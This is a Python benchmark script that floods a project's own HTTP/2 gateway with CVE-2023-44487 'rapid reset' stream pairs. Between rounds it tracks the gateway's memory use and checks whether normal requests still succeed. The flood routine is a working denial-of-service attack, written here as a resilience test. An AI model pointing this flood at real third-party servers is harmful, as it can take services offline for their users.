#!/usr/bin/env python3
"""Rapid reset (CVE-2023-44487) against the gateway's HTTP/2 side, with its memory.

Opens an intercepted HTTP/2 connection through the gateway (CONNECT, TLS
trusting the gateway CA, ALPN h2) and sends PAIRS HEADERS + RST_STREAM pairs
as fast as the socket takes them, ROUNDS times (a new connection each round:
the gateway closes a flooding one). Between rounds it reads the gateway's
resident memory from /proc/PID/status and checks that an ordinary request on a
fresh connection still answers. Prints one JSON object.

    python3 scripts/bench/http2_rapid_reset.py --proxy-port P --host localhost --port 8443 \
        --ca .gateway/ca.pem --pid $(pgrep -f 'gateway run') --rounds 5 --pairs 10000

Needs the h2 package (PyPI).
"""
import argparse, json, socket, ssl

import h2.config, h2.connection, h2.events, h2.exceptions


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


def connect(args):
    raw = socket.create_connection(("127.0.0.1", args.proxy_port), timeout=30)
    raw.sendall(f"CONNECT {args.host}:{args.port} HTTP/1.1\r\nHost: {args.host}:{args.port}\r\n\r\n".encode())
    reply = b""
    while b"\r\n\r\n" not in reply:
        reply += raw.recv(4096)
    assert b" 200 " in reply.split(b"\r\n")[0], reply
    context = ssl.create_default_context(cafile=args.ca)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(raw, server_hostname=args.host)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers(args, path):
    return [(":method", "GET"), (":scheme", "https"), (":authority", f"{args.host}:{args.port}"), (":path", path)]


def flood(args):
    sock, conn = connect(args)
    sent, closed, goaway = 0, False, None
    stream_id = 1
    try:
        for i in range(args.pairs):
            conn.send_headers(stream_id, headers(args, f"/?i={i}"))
            conn.reset_stream(stream_id)
            stream_id += 2
            sent += 1
            if i % 50 == 49:
                sock.sendall(conn.data_to_send())
        sock.sendall(conn.data_to_send())
    except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
        closed = True
    sock.settimeout(10)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                closed = True
                break
            try:
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = int(event.error_code)
            except h2.exceptions.ProtocolError:
                pass
    except (OSError, ssl.SSLError):
        closed = True
    sock.close()
    return {"sent": sent, "closed": closed, "goaway": goaway}


def ordinary(args):
    sock, conn = connect(args)
    conn.send_headers(1, headers(args, args.path), end_stream=True)
    sock.sendall(conn.data_to_send())
    status = None
    while True:
        data = sock.recv(65536)
        if not data:
            break
        done = False
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[b":status"])
            if isinstance(event, h2.events.StreamEnded):
                done = True
        sock.sendall(conn.data_to_send())
        if done:
            break
    sock.close()
    return status


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--proxy-port", type=int, required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--pid", type=int, required=True)
    parser.add_argument("--rounds", type=int, default=5)
    parser.add_argument("--pairs", type=int, default=10000)
    parser.add_argument("--path", default="/")
    args = parser.parse_args()
    report = {"rss_kib_before": rss_kib(args.pid), "status_before": ordinary(args), "rounds": []}
    for _ in range(args.rounds):
        result = flood(args)
        result["rss_kib"] = rss_kib(args.pid)
        result["status_after"] = ordinary(args)
        report["rounds"].append(result)
    report["rss_kib_after"] = rss_kib(args.pid)
    print(json.dumps(report, indent=2))


if __name__ == "__main__":
    main()
